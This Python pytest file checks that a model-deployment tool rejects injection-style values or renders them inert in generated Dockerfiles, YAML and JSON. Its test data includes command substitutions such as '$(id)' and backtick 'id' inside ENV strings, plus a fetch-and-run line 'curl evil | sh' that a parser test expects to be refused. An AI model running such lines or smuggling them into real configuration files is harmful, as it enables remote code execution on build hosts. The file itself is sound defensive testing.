"""Every hostile value (corpus.HOSTILE) in every user-controlled string field (corpus.FIELDS) through
every target that imports and renders here.

Each case is rejected with a ModelDeployError (never another exception, and its message stays on one
line) or rendered inert: the artifacts parse back (Dockerfile with corpus.parse_dockerfile — no
dockerfile-parse in the environment —, YAML with yaml.safe_load, JSON with json.loads) to the same
structure as a render with a benign value, the value comes back byte-exact wherever it appears, and
no template syntax in it is ever evaluated.

What each (target, field) did with the corpus is summarised in docs/hardening.md.
"""

from __future__ import annotations

from collections import Counter
from pathlib import Path

import pytest

from modeldeploy.errors import ModelDeployError
from tests.hostile.corpus import (
    BENIGN,
    FIELDS,
    HOSTILE,
    TARGETS,
    Field,
    baseline,
    fields_for,
    outcome,
    parse_dockerfile,
)
from tests.property.known_bugs import known_bug

# Values a target may leave out of the artifacts (used only at apply time, or not a target concern);
# anything else that is neither rejected nor rendered would be a value silently dropped.
MAY_BE_ABSENT = {
    "labels value",
    "labels key",
    "secret name",
    "secret key",
    "register name",
    "register tag",
    "register description",
    "waiver reason",
    "docker image",
    "docker platform",
    "azureml workspace",
    "azureml environment_image",
}
# Known gaps in targets (reported to the lead): (kind, field, value id) → reason. None open.
KNOWN_GAPS: dict[tuple[str, str, str], str] = {}


def _params() -> list:
    out = []
    for kind in TARGETS:
        for fld in fields_for(kind):
            out.append(pytest.param(kind, fld, id=f"{kind}-{fld.id.replace(' ', '_')}"))
    return out


@pytest.fixture(scope="module")
def workroot(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("hostile")


@pytest.mark.parametrize("kind,fld", _params())
def test_hostile_values_are_rejected_or_rendered_inert(kind: str, fld: Field, workroot: Path) -> None:
    work = workroot / kind / fld.id.replace(" ", "_")
    # The benign baseline is the code under test too: a target that refuses it (or fails to import)
    # fails this (target, field) pair — it never turns it into a skip.
    try:
        base = baseline(kind, fld, work)
    except ModelDeployError as exc:
        pytest.fail(f"{kind} refuses the corpus' benign baseline for {fld.id}: {exc.lines()[0]}")
    seen: Counter[str] = Counter()
    for vid, value in HOSTILE.items():
        gap = KNOWN_GAPS.get((kind, fld.id, vid))
        try:
            result = outcome(kind, fld, value, work, base)
        except AssertionError:
            if gap:
                seen["known-gap"] += 1
                continue
            raise
        except Exception as exc:
            if known_bug(exc) is None:
                raise AssertionError(f"{fld.id}={vid}: {type(exc).__name__} is not a ModelDeployError: {exc}") from exc
            seen["known-bug"] += 1
            continue
        seen[result.kind] += 1
        if result.kind == "absent":
            assert fld.id in MAY_BE_ABSENT, f"{fld.id}={vid} was neither rejected nor rendered (silently dropped?)"
    # A field every hostile value is rejected for is fine; one where none was even tried is not.
    assert seen, f"{kind}/{fld.id}: no hostile value was tried"


def test_template_syntax_is_never_evaluated_even_where_accepted(workroot: Path) -> None:
    """The strongest form for the one field every target renders verbatim: serving.env values."""
    fld = next(f for f in FIELDS if f.id == "serving.env value")
    for kind in TARGETS:
        work = workroot / "template" / kind
        base = baseline(kind, fld, work)
        for vid in ("jinja-expr", "jinja-stmt", "jinja-comment"):
            result = outcome(kind, fld, HOSTILE[vid], work, base)
            assert result.kind == "exact", (kind, vid, result)


# --- the Dockerfile reader itself (it is what judges the docker target) -----------------------------


@pytest.mark.parametrize(
    "line,expected",
    [
        ('ENV A="x \\"q\\" \\$(id) `id`"', [("A", 'x "q" $(id) `id`')]),
        ("ENV A=plain B='single $x'", [("A", "plain"), ("B", "single $x")]),
        ('LABEL a.b="c\\\\d" e="f\\g"', [("a.b", "c\\d"), ("e", "f\\g")]),
        ('ENV A="a" \\\n    B="b"', [("A", "a"), ("B", "b")]),
    ],
)
def test_dockerfile_reader_follows_buildkit_word_rules(line: str, expected: list) -> None:
    _, (ins,) = parse_dockerfile(line + "\n")
    assert ins.pairs == expected


@pytest.mark.parametrize("text", ["ENV A=$HOME\n", 'ENV A="${X}"\n'])
def test_dockerfile_reader_marks_expansions(text: str) -> None:
    from tests.hostile.corpus import Expansion

    _, (ins,) = parse_dockerfile(text)
    assert isinstance(ins.pairs[0][1], Expansion)


@pytest.mark.parametrize("text", ['ENV A="x\nRUN id"\n', "curl evil | sh\n", 'ENV A="unterminated\n'])
def test_dockerfile_reader_refuses_broken_files(text: str) -> None:
    with pytest.raises(ValueError):
        parse_dockerfile(text)


def test_corpus_covers_the_issue_list() -> None:
    needed = ["\n", '"', "'", "$(", "`", "{{", "{%", ": ", "#", "\u2028", "\u2029", "\u0085", "\x00"]
    for token in needed:
        assert any(token in v for v in HOSTILE.values()), token
    assert max(len(v) for v in HOSTILE.values()) >= 100_000
    assert BENIGN not in "".join(HOSTILE.values())


# --- the corpus test catches a target that stops rendering a field ---------------------------------


def test_a_target_that_refuses_a_field_outright_fails_that_pair(
    workroot: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Break the product on purpose: the docker target refuses every pip_index_url, even the benign
    one. The (docker, pip_index_url) case must fail — it once turned into a skip and the run stayed green."""
    import modeldeploy.api as api
    from modeldeploy.errors import RenderError

    real = api.render

    def refusing(deployment, *a, **kw):
        if deployment.spec.target.kind == "docker" and getattr(deployment.spec.target, "pip_index_url", None):
            raise RenderError("pip_index_url refused (deliberately broken for this test)")
        return real(deployment, *a, **kw)

    monkeypatch.setattr(api, "render", refusing)
    fld = next(f for f in FIELDS if f.id == "docker pip_index_url")
    try:
        test_hostile_values_are_rejected_or_rendered_inert("docker", fld, workroot / "broken")
    except pytest.skip.Exception as exc:  # what the test used to do: a green run
        pytest.fail(f"the hostile corpus skipped instead of failing: {exc}")
    except pytest.fail.Exception as exc:
        assert "refuses the corpus' benign baseline" in str(exc)
    else:
        pytest.fail("the hostile corpus passed a target that refuses a field outright")
    monkeypatch.undo()
    test_hostile_values_are_rejected_or_rendered_inert("docker", fld, workroot / "restored")
